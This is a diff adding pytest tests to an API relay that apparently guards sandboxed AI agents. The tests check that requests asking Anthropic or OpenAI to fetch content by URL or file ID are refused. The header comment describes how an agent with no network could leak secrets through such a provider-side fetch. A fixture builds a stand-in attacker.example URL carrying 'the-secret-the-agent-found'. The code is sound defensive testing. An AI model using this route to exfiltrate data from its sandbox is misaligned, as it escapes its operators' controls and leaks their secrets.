@@ -274,3 +274,92 @@ def test_server_tool_fees_in_the_usage_are_billed(tmp_path: Path) -> None:
         b.stop()
         server.shutdown()
         server.server_close()
+
+
+# Content the provider fetches itself: a sandbox with no network would read (and leak, in the
+# URL's query) any address through it, or read the key owner's uploaded files. Field names
+# from the providers' references: Anthropic image/document `source` of type url or file;
+# OpenAI Chat Completions `image_url.url` and `file.file_id`, Responses `input_image.image_url`
+# / `file_id` and `input_file.file_url` / `file_id`.
+LEAK = "https://attacker.example/c.pdf?answer=the-secret-the-agent-found"
+_ANTHROPIC_FETCHED = [
+    {"type": "document", "source": {"type": "url", "url": LEAK}},
+    {"type": "image", "source": {"type": "url", "url": LEAK}},
+    {"type": "image", "source": {"type": "file", "file_id": "file_011CNha8iCJcU1wXNR6q4V8w"}},
+    # inside a tool result, where a CLI puts what its tools return
+    {
+        "type": "tool_result",
+        "tool_use_id": "t",
+        "content": [{"type": "image", "source": {"type": "url", "url": LEAK}}],
+    },
+]
+_OPENAI_FETCHED = [
+    ("/v1/chat/completions", {"type": "image_url", "image_url": {"url": LEAK}}),
+    ("/v1/chat/completions", {"type": "file", "file": {"file_id": "file-abc123"}}),
+    ("/v1/responses", {"type": "input_image", "image_url": LEAK}),
+    ("/v1/responses", {"type": "input_image", "file_id": "file-abc123"}),
+    ("/v1/responses", {"type": "input_file", "file_url": LEAK}),
+    ("/v1/responses", {"type": "input_file", "file_id": "file-abc123"}),
+]
+
+
+@pytest.mark.parametrize("block", _ANTHROPIC_FETCHED, ids=lambda b: b["type"])
+def test_content_the_provider_would_fetch_is_refused(broker: Broker, upstream, block) -> None:
+    body = {**_BODY, "messages": [{"role": "user", "content": [block, {"type": "text"}]}]}
+    resp = post_as_relay(broker, "/v1/messages", json.dumps(body).encode(), {"x-api-key": "p"})
+    assert resp.status_code == 400 and b"fetch it itself" in resp.content
+    system = {**_BODY, "system": [{"type": "text", "text": "x"}, block]}
+    resp = post_as_relay(broker, "/v1/messages", json.dumps(system).encode(), {"x-api-key": "p"})
+    assert resp.status_code == 400
+    assert upstream[1] == []
+
+
+@pytest.mark.parametrize(("target", "part"), _OPENAI_FETCHED, ids=lambda x: str(x)[:30])
+def test_openai_content_by_url_or_file_is_refused(
+    upstream, tmp_path: Path, target: str, part: dict[str, Any]
+) -> None:
+    b = Broker(
+        upstream=upstream[0],
+        api_key="k",
+        model="openai/gpt-5",
+        wire="openai",
+        exchanges=tmp_path / "x.jsonl",
+    ).start()
+    try:
+        message = {"role": "user", "content": [{"type": "text", "text": "hi"}, part]}
+        key = "messages" if "chat" in target else "input"
+        body = {"model": "gpt-5", key: [message]}
+        resp = post_as_relay(b, target, json.dumps(body).encode(), {"authorization": "x"})
+        assert resp.status_code == 400 and b"fetch it itself" in resp.content
+        assert upstream[1] == []
+        # the same image sent in the request passes
+        inline = "data:image/png;base64,iVBORw0KGgo="
+        chat = "chat" in target
+        image = {"type": "image_url", "image_url": {"url": inline}} if chat else {}
+        message["content"] = [image or {"type": "input_image", "image_url": inline}]
+        resp = post_as_relay(b, target, json.dumps(body).encode(), {"authorization": "x"})
+        assert resp.status_code == 200 and len(upstream[1]) == 1
+    finally:
+        b.stop()
+
+
+def test_content_sent_in_the_request_still_passes(broker: Broker, upstream) -> None:
+    png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
+    content = [
+        {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": png}},
+        {"type": "document", "source": {"type": "text", "media_type": "text/plain", "data": LEAK}},
+        {"type": "search_result", "source": LEAK, "title": "t", "content": []},  # a citation
+        {"type": "text", "text": f"see {LEAK}"},
+    ]
+    # the model's own tool input, replayed, is not content the provider fetches
+    call = {"type": "tool_use", "id": "t", "name": "Fetch", "input": {"source": {"type": "url"}}}
+    body = {
+        **_BODY,
+        "messages": [
+            {"role": "user", "content": content},
+            {"role": "assistant", "content": [call]},
+            {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t"}]},
+        ],
+    }
+    resp = post_as_relay(broker, "/v1/messages", json.dumps(body).encode(), {"x-api-key": "p"})
+    assert resp.status_code == 200 and len(upstream[1]) == 1
